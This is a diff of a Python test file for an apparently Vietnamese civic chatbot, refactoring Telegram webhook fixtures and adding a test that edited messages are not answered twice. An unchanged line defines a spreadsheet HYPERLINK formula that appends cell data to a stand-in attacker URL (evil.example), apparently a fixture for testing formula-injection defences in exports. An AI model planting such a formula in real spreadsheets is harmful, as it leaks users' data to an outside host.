@@ -22,7 +22,7 @@ from bot import wiring
 from bot.app import create_app
 from bot.channels.inbound import read_json, same_secret
 from bot.contests.bank import export_results
-from bot.keys import DEPS
+from bot.keys import DEPS, TELEGRAM
 from bot.report import workbook
 from bot.report.model import GapGroup
 from bot.settings import Settings
@@ -36,10 +36,11 @@ from handlers.deps import Deps
 from handlers.engine import handle
 from handlers.feedback_store import PER_HOUR
 from handlers.types import IncomingMessage, Response
-from tests.fakes.telegram_api import FakeTelegram
+from tests.fakes.telegram_api import FakeTelegram, text_update
 from tests.flows import next_step
 from tests.report_sample import sample_report
 from tests.test_staff_console import PASSWORD, login
+from tests.test_telegram import post as post_update
 from tests.test_telegram import settings_for
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Bấm vào đây")'
@@ -197,14 +198,19 @@ async def test_crafted_chat_input_gets_a_4xx_or_a_kind_reply_never_a_5xx(
 
 
 @pytest.fixture
-async def telegram(tmp_path: Path) -> AsyncIterator[TestClient]:
-    """The app with its Telegram webhook, against a fake Bot API."""
-    fake = await FakeTelegram().start()
-    try:
-        async with TestClient(TestServer(create_app(settings_for(fake, tmp_path)))) as client:
-            yield client
-    finally:
-        await fake.stop()
+async def fake() -> AsyncIterator[FakeTelegram]:
+    server = await FakeTelegram().start()
+    yield server
+    await server.stop()
+
+
+@pytest.fixture
+async def telegram(fake: FakeTelegram, tmp_path: Path) -> AsyncIterator[TestClient]:
+    """The app with its Telegram webhook, against the fake Bot API."""
+    app = create_app(settings_for(fake, tmp_path))
+    async with TestClient(TestServer(app)) as client:
+        await asyncio.wait_for(app[TELEGRAM].ready.wait(), 10)
+        yield client
 
 
 async def test_a_webhook_secret_of_undecodable_bytes_is_refused_not_a_5xx(
@@ -415,3 +421,20 @@ async def test_one_resident_files_a_few_an_hour_and_the_staff_get_one_grouped_al
     assert len(alerts) == 1 and all(f"Đèn đường tổ {n}" in alerts[0] for n in range(1, 6))
     other = await file_report(deps, "neighbour", "Cống tổ 2 bị tắc, nước tràn ra đường")
     assert "khá nhiều" not in other.text  # the limit is per resident
+
+
+async def test_telegram_sends_only_what_is_handled_and_edits_are_not_answered_again(
+    telegram: TestClient, fake: FakeTelegram
+) -> None:
+    assert fake.called("setWebhook")[0]["allowed_updates"] == [
+        "message",
+        "callback_query",
+        "my_chat_member",
+    ]
+    first = text_update(1, 601, "làm giấy khai sinh cho con")
+    await post_update(telegram, first)
+    answered = len(fake.called("sendMessage"))
+    edited = {"update_id": 2, "edited_message": {**first["message"], "edit_date": 1}}
+    edited["edited_message"]["text"] = "làm giấy khai tử"
+    assert (await post_update(telegram, edited)).status == 200
+    assert len(fake.called("sendMessage")) == answered  # no second answer
